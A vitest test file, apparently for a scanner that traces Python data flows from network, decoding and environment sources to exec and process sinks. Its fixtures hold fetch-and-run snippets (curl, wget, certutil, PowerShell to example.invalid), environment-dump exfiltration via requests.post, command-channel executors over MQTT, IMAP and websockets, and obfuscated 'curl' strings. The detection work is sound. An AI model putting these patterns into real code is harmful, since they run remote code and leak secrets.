import { expect, test } from 'vitest';
import { read } from './reading.js';

const flowsIn = async (text: string) => (await read(text)).facts?.flows({ from: ['decoder', 'network', 'credentials', 'environment'], to: ['exec', 'process', 'network'] }) ?? [];
const commandIn = async (text: string) => (await read(`import os\n${text}`)).facts?.calls('process')[0]?.text;

test('a flow tells every step from its source to its sink', async () => {
  const [flow] = await flowsIn('from base64 import b64decode as d\ndef unpack(text):\n    return d(text)\ncode = unpack(X)\nexec(code)\n');
  expect(flow).toMatchObject({ from: 'decoder', to: 'exec', when: 'import', through: 'value', source: { name: 'base64.b64decode', line: 3 }, sink: { name: 'exec', line: 5 } });
  expect(flow?.steps.map((step) => `${step.line}: ${step.what}`)).toEqual([
    '3: base64.b64decode gives it',
    '4: returned by unpack()',
    '4: assigned to code',
    '5: reaches exec',
  ]);
});

test.each([
  ['a dict entry', 'd["k"] = requests.get(u).text\nexec(d["k"])'],
  ['a list', 'd = []\nd.append(requests.get(u).text)\nexec(d[0])'],
  ['an attribute', 'class A: pass\na = A()\na.x = requests.get(u).text\nexec(a.x)'],
  ['a walrus', 'if (t := requests.get(u).text):\n    exec(t)'],
  ['a with block', 'with requests.get(u) as r:\n    exec(r.text)'],
  ['a loop', 'for line in requests.get(u).iter_lines():\n    exec(line)'],
  ['a tuple', 'a, b = requests.get(u).text, 1\nexec(a)'],
  ['a global', 'def f():\n    global t\n    t = requests.get(u).text\nf()\nexec(t)'],
  ['an f-string', 'exec(f"{requests.get(u).text}")'],
  ['a session', 's = requests.Session()\nexec(s.get(u).text)'],
  ['a closure', 'def f():\n    t = requests.get(u).text\n    def g():\n        exec(t)\n    g()\nf()'],
])('data flows through %s', async (_, text) => {
  expect(await flowsIn(`import requests\nd = {}\n${text}\n`)).toMatchObject([{ from: 'network', to: 'exec' }]);
});

test.each([
  ['a name that was given another value', 'code = d(x)\ncode = "1"\nexec(code)'],
  ['a comparison', 'if d(x) == "y":\n    exec("1")'],
  ['a function with the name of a sink', 'class A:\n    def exec(self, c): pass\nA().exec(d(x))'],
  ['a parameter with the name of a sink', 'def f(exec):\n    exec(d(x))'],
  ['namespace arguments', 'exec("1", {"k": d(x)})'],
])('nothing flows through %s', async (_, text) => {
  expect(await flowsIn(`from base64 import b64decode as d\n${text}\n`)).toEqual([]);
});

test('a file that is fetched and then run is one flow', async () => {
  const flows = await flowsIn('import os, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nos.system("sh /tmp/stage.sh")\n');
  expect(flows).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
});

test.each([
  ['curl', 'curl -sL https://example.invalid/x -o /tmp/stage.sh', 'sh /tmp/stage.sh'],
  ['wget', 'wget -qO /tmp/stage.sh https://example.invalid/x', 'sh /tmp/stage.sh'],
  ['PowerShell', 'powershell -c iwr https://example.invalid/x -OutFile C:\\\\stage.ps1', 'powershell -File C:\\\\stage.ps1'],
  ['certutil', 'certutil -urlcache -f https://example.invalid/x stage.exe', 'stage.exe'],
  ['git', 'git clone https://example.invalid/x.git ./stage', 'bash ./stage/run.sh'],
])('a file that %s fetches in one call and another call starts is one flow', async (_, fetch, start) => {
  expect(await flowsIn(`import os\nos.system("${fetch}")\nos.system("${start}")\n`)).toMatchObject([{ from: 'network', to: 'process', through: 'file', sink: { line: 3 } }]);
});

test.each([
  ['a command that only fetches', 'os.system("curl https://example.invalid/x -o /tmp/stage.sh")'],
  ['a command whose reply is shown', 'os.system("curl https://example.invalid/x -o -")\nos.system("ls -l")'],
  ['another file', 'os.system("curl https://example.invalid/x -o /tmp/stage.sh")\nos.system("sh /tmp/other.sh")'],
])('%s is no flow', async (_, text) => {
  expect(await flowsIn(`import os\n${text}\n`)).toEqual([]);
});

test.each([
  ['a mailbox', 'import imaplib\nbox = imaplib.IMAP4_SSL("h")\n_, mail = box.fetch("1", "(RFC822)")\nos.system(mail[0][1].decode())'],
  ['a chain', 'from web3 import Web3\nos.system(bytes(Web3(u).eth.get_transaction("0x0")["input"]).decode())'],
  ['a stream', 'import asyncio\nasync def f():\n    r, w = await asyncio.open_connection("h", 1)\n    os.system((await r.readline()).decode())\nasyncio.run(f())'],
  ['a queue', 'import paho.mqtt.client as mqtt\ndef got(client, data, message):\n    os.system(message.payload.decode())\nc = mqtt.Client()\nc.on_message = got'],
  ['a connection that stays open', 'import websocket\ndef got(app, message):\n    os.system(message)\nwebsocket.WebSocketApp(u, on_message=got).run_forever()'],
  ['a decorator of a connection', 'import socketio\nc = socketio.Client()\n@c.on("order")\ndef got(data):\n    os.system(data)'],
  ['a request to a server of its own', 'import http.server\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.path[1:])'],
])('what comes out of %s is fetched', async (_, text) => {
  expect(await flowsIn(`import os\n${text}\n`)).toMatchObject([{ from: 'network', to: 'process' }]);
});

test.each([
  ['an entry', 'self.found["all"] = dict(os.environ)'],
  ['an update', 'self.found.update(os.environ)'],
  ['an addition', 'self.found.append(str(os.environ))'],
])('what an attribute is given by %s is still in it when it is sent', async (_, statement) => {
  const text = `import os, requests\nclass Box:\n    found = {}\n    def fill(self):\n        ${statement}\n        return self\n    def send(self):\n        requests.post(u, json=self.found)\nBox().fill().send()\n`;
  expect(await flowsIn(text)).toMatchObject([{ from: 'environment', to: 'network', when: 'import' }]);
});

test('a name of Python that is put together stands for what is called so, whatever holds it', async () => {
  expect(await flowsIn('import base64, subprocess\nd = Lazy()\nd["ex" + "ec"](base64.b64decode(x))\n')).toMatchObject([{ from: 'decoder', to: 'exec' }]);
  expect(await flowsIn('import base64, subprocess\nd = {"exec": handle}\nd["exec"](base64.b64decode(x))\n')).toEqual([]);
});

test('a file that was fetched is the same under another name', async () => {
  const text = 'import os, shutil, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nshutil.move("/tmp/stage.sh", "/tmp/quiet.sh")\nos.system("sh /tmp/quiet.sh")\n';
  expect(await flowsIn(text)).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
});

test('one environment variable is not the whole environment', async () => {
  expect(await flowsIn('import os, requests\nrequests.get(u, headers={"t": os.environ["T"], "v": os.environ.get("V")})\n')).toEqual([]);
  expect(await flowsIn('import os, requests\nrequests.post(u, json=dict(os.environ))\n')).toMatchObject([{ from: 'environment' }]);
});

test.each([
  ['os.system("cu" + "rl")', 'curl'],
  ['os.system("%s -s %s" % ("curl", "x"))', 'curl -s x'],
  ['os.system("{} {}".format("curl", "x"))', 'curl x'],
  ['os.system(f"curl {unknown}")', 'curl {}'],
  ['os.system("lruc"[::-1])', 'curl'],
  ['os.system("".join(["c", "url"]))', 'curl'],
  ['os.system(chr(99) + chr(100 + 17) + "rl")', 'curl'],
  ['os.system("\\x63\\165rl")', 'curl'],
  ['os.system("cXrl".replace("X", "u"))', 'curl'],
  ['import subprocess\nsubprocess.run(["curl", "-s", unknown])', 'curl -s {}'],
  ['words = "curl x".split()\nos.popen(words[0])', 'curl'],
])('%s starts %j', async (text, command) => {
  expect(await commandIn(text)).toBe(command);
});

test.each([
  ['appended to', 'cmd = ["tar"]\ncmd.append("-x")\ncmd.append(name)\nos.system(cmd)', 'tar -x {}'],
  ['extended', 'cmd = ["tar"]\ncmd.extend(["-x", "-f"])\ncmd.extend(names)\nos.system(cmd)', 'tar -x -f {}'],
  ['added to what is not known', 'os.system(tool + ["-x"])', '{} -x'],
])('the words of a command are known that are %s', async (_, text, command) => {
  expect(await commandIn(text)).toBe(command);
});
